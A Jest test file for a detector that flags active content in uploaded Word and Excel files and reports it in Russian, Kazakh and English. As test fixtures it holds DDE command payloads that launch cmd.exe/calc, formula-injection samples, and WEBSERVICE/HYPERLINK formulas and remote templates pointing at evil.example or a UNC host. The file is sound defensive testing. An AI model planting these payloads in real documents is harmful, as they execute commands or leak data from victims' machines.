import { describe, expect, it } from '@jest/globals';
import { testWorkbook } from '@qadam/platform/server';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { activeInOffice } from './office-active';
import { readDocumentFile } from './read-document-file';
import { shown } from './read-file.fixture';
import { wordFile, wordParagraph } from './word-file.fixture';

type Parts = Readonly<Record<string, string>>;

const withParts = (file: Uint8Array, parts: Parts): Buffer =>
  Buffer.from(
    zipSync({
      ...unzipSync(file),
      ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
    }),
  );

const words = wordParagraph('Воды нет третий день.');
const minutes = (parts: Parts = {}, more = ''): Buffer => withParts(wordFile(words + more), parts);

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, isExternal = true): string =>
  `<Relationships><Relationship Id="r1" Type="${office}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/></Relationships>`;

describe('a file of Word', () => {
  const template = (target: string) =>
    activeInOffice(minutes({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', target) }));

  it('is told to fetch a template from elsewhere, not one on the disk of its writer', () => {
    for (const target of [
      'http://evil.example/t.dotm',
      '\\\\10.0.0.1\\share\\t.dotm',
      'file:///\\\\10.0.0.1\\share\\t.dotm',
    ])
      expect(template(target)).toEqual(['external template']);
    for (const target of ['file:///C:\\Users\\Aigul\\Templates\\Letter.dotx', 'Normal.dotm'])
      expect(template(target)).toEqual([]);
  });

  it('is told to hold objects of other programs, not the numbers of a chart', () => {
    const inDocument = (type: string) =>
      activeInOffice(minutes({ 'word/_rels/document.xml.rels': relation(type, 'embeddings/a', false) }));
    expect(inDocument('oleObject')).toEqual(['OLE objects']);
    expect(inDocument('package')).toEqual(['OLE objects']);
    expect(inDocument('control')).toEqual(['ActiveX']);
    expect(inDocument('image')).toEqual([]);
    expect(activeInOffice(minutes({ 'word/embeddings/oleObject1.bin': 'x' }))).toEqual(['OLE objects']);
    const chart = {
      'word/charts/_rels/chart1.xml.rels': relation('package', '../embeddings/Workbook.xlsx', false),
      'word/embeddings/Workbook.xlsx': 'x',
    };
    expect(activeInOffice(minutes(chart))).toEqual([]);
  });

  it('is told to call a program by a field, however Word keeps its instruction; its words are no field', () => {
    const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
    const piece = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
    const field = (...pieces: string[]) =>
      `<w:p>${mark('begin')}${pieces.map(piece).join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`;
    expect(activeInOffice(minutes({}, field(' DDE', 'AUTO c:\\cmd.exe "/k calc.exe" ')))).toEqual(['DDE']);
    expect(
      activeInOffice(minutes({}, '<w:p><w:fldSimple w:instr=" dde excel a.xls "><w:r/></w:fldSimple></w:p>')),
    ).toEqual(['DDE']);
    expect(activeInOffice(minutes({}, field(' PAGE ') + wordParagraph('DDEAUTO cmd')))).toEqual([]);
  });

  it('is told to fetch pictures, frames and text from elsewhere, not those on the disk of its writer', () => {
    for (const [type, told] of [
      ['image', 'external pictures'],
      ['frame', 'external frames'],
      ['aFChunk', 'external text'],
    ] as const) {
      const inDocument = (target: string) =>
        activeInOffice(minutes({ 'word/_rels/document.xml.rels': relation(type, target) }));
      expect(inDocument('https://evil.example/a')).toEqual([told]);
      expect(inDocument('file:///\\\\10.0.0.1\\a')).toEqual([told]);
      for (const own of ['file:///C:\\Users\\a.png', 'file:///home/a/a.png', 'media/a.png'])
        expect([own, inDocument(own)]).toEqual([own, []]);
    }
    const field = (instruction: string) =>
      activeInOffice(minutes({}, `<w:p><w:fldSimple w:instr="${instruction}"><w:r/></w:fldSimple></w:p>`));
    expect(field(' INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d ')).toEqual([
      'external pictures',
    ]);
    expect(field(' includetext http://evil.example/a.docx ')).toEqual(['external text']);
    expect(field(' INCLUDEPICTURE &quot;C:\\\\a.png&quot; ')).toEqual([]);
    expect(field(' HYPERLINK &quot;http://evil.example&quot; ')).toEqual([]);
  });

  it('is taken, and told in three languages', async () => {
    const { notice, blocks } = await readDocumentFile(
      minutes({
        'word/vbaProject.bin': 'x',
        'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm'),
      }),
      'сход.docx',
    );
    expect(blocks).toEqual([{ page: 1, text: 'Воды нет третий день.' }]);
    expect(notice).toMatchObject({ kind: 'active-content', place: 'сход.docx' });
    expect(notice?.message.ru).toContain(': макросы, шаблон из сети. ');
    expect(notice?.message.kk).toContain(': макростар, желіден алынатын үлгі. ');
    expect(notice?.message.en).toContain(': macros, a template fetched from elsewhere. ');
    expect((await readDocumentFile(minutes(), 'сход.docx')).notice).toBeNull();
  });
});

describe('a workbook', () => {
  const table = testWorkbook({ Answers: [['What was said'], ['No water']] });
  const sheet = 'xl/worksheets/sheet1.xml';
  const withFormula = (formula: string): Buffer => {
    const markup = strFromU8(unzipSync(table)[sheet] ?? new Uint8Array());
    expect(markup).toContain('</row></sheetData>');
    return withParts(table, {
      [sheet]: markup.replace(
        '</row></sheetData>',
        `<c r="C2" t="str"><f>${formula}</f><v>1</v></c></row></sheetData>`,
      ),
    });
  };

  it('is told to hold formulas that fetch or call, not those that only name such a thing', () => {
    for (const [formula, what] of [
      ['WEBSERVICE(&quot;http://evil.example/&quot;&amp;A2)', 'WEBSERVICE'],
      ['1+_xlfn.webservice (A1)', 'WEBSERVICE'],
      ['cmd|&apos;/c calc&apos;!A0', 'DDE'],
      ['cmd|&#39;/c calc&#39;!_x', 'DDE'],
      ['RTD("prog.id",,"a")', 'RTD'],
      ['_xlfn.IMAGE(&quot;http://evil.example/a.png&quot;)', 'IMAGE'],
      ['HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2,&quot;open&quot;)', 'HYPERLINK'],
    ] as const)
      expect([formula, activeInOffice(withFormula(formula))]).toEqual([formula, [what]]);
    for (const formula of [
      'SUM(A1:A2)',
      '"WEBSERVICE(a)"&amp;"cmd|a!b"',
      "'A|B'!A1",
      'MYWEBSERVICE(1)',
      'HYPERLINK("http://a.example/?a=1&amp;b=2","more"&amp;A2)',
    ])
      expect([formula, activeInOffice(withFormula(formula))]).toEqual([formula, []]);
  });

  it('is told its links to other programs, macro sheets and data', () => {
    expect(
      activeInOffice(
        withParts(table, {
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        }),
      ),
    ).toEqual(['DDE']);
    expect(
      activeInOffice(
        withParts(table, {
          'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
        }),
      ),
    ).toEqual([]);
    expect(activeInOffice(withParts(table, { 'xl/connections.xml': '<connections/>' }))).toEqual([
      'data connections',
    ]);
    expect(activeInOffice(withParts(table, { 'xl/macrosheets/sheet1.xml': '<x/>' }))).toEqual(['macros']);
  });

  it('is taken with its cells, and told', async () => {
    const { notice, blocks } = await readDocumentFile(
      withFormula('WEBSERVICE(&quot;http://evil.example&quot;)'),
      'answers.xlsx',
    );
    expect(shown(blocks).join('\n')).toContain('No water');
    expect(notice).toMatchObject({ kind: 'active-content', place: 'answers.xlsx, Answers, C2' });
    expect(notice?.message.ru).toContain('формула с обращением в сеть (WEBSERVICE)');
  });
});
